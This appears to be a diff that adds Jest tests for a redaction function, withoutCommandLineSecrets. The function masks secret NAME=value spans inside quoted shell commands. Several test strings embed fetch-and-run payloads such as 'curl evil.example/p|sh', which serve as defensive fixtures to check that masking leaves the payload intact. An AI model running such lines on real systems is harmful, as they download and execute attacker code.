@@ -652,3 +652,40 @@ describe("withoutCommandLineSecrets: a path, a key prefix or a label beside run-
     expect(withoutCommandLineSecrets(line)).toBe(shown);
   });
 });
+
+// r50 F7: a quoted command's own NAME=value (`sh -c 'TOKEN=… srv'`) ended at the first blank, so
+// its hidden span cut a payload in two. It ends where the shell that runs the command ends the
+// word; shown, only its literal text is hidden, the payload kept whole.
+describe("withoutCommandLineSecrets: a quoted command's own value with a payload (r50 F7)", () => {
+  it.each([
+    [
+      "sh -c 'TOKEN=abc$(curl evil.example/p|sh) srv'",
+      "sh -c 'TOKEN=${TOKEN}$(curl evil.example/p|sh) srv'",
+      "abc",
+    ],
+    [
+      "ssh box sh -c 'TOKEN=abc`curl evil.example/p|sh`x9 srv'",
+      "ssh box sh -c 'TOKEN=${TOKEN}`curl evil.example/p|sh`${TOKEN} srv'",
+      "abc",
+    ],
+    [
+      `bash -c "DB_PASSWORD='two words' printenv DB_PASSWORD"`,
+      `bash -c "DB_PASSWORD=\${DB_PASSWORD} printenv DB_PASSWORD"`,
+      "'two words'",
+    ],
+  ])("%j is shown as %j, %j handed over first", (line, shown, first) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+    const hidden: string[] = [];
+    const filled = withoutCommandLineSecrets(line, (secret) => {
+      hidden.push(secret);
+      return secret;
+    });
+    expect(filled).toBe(line);
+    expect(hidden[0]).toBe(first);
+  });
+
+  it("keeps a quoted command's value that is only run-time text, and hides a literal default", () => {
+    expect(withoutCommandLineSecrets("sh -c 'TOKEN=$T srv'")).toBe("sh -c 'TOKEN=$T srv'");
+    expect(withoutCommandLineSecrets("sh -c 'TOKEN=${T:-hunter2x9} srv'")).toBe("sh -c 'TOKEN=${TOKEN} srv'");
+  });
+});
